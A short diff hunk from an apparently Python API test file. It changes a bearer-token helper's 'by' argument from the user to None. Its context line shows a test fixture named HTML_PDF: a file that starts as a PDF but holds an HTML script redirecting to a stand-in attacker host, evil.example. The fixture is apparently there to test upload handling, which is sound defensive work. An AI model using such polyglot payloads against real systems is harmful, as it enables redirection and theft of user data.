@@ -33,7 +33,7 @@ HTML_PDF = b"%PDF-1.7\n<html><body><script>document.location='https://evil.examp
 
 
 def bearer(user) -> Client:
-    _token, secret = create_api_token(user, "test", by=user)
+    _token, secret = create_api_token(user, "test", by=None)
     return Client(HTTP_AUTHORIZATION=f"Bearer {secret}")
 
 
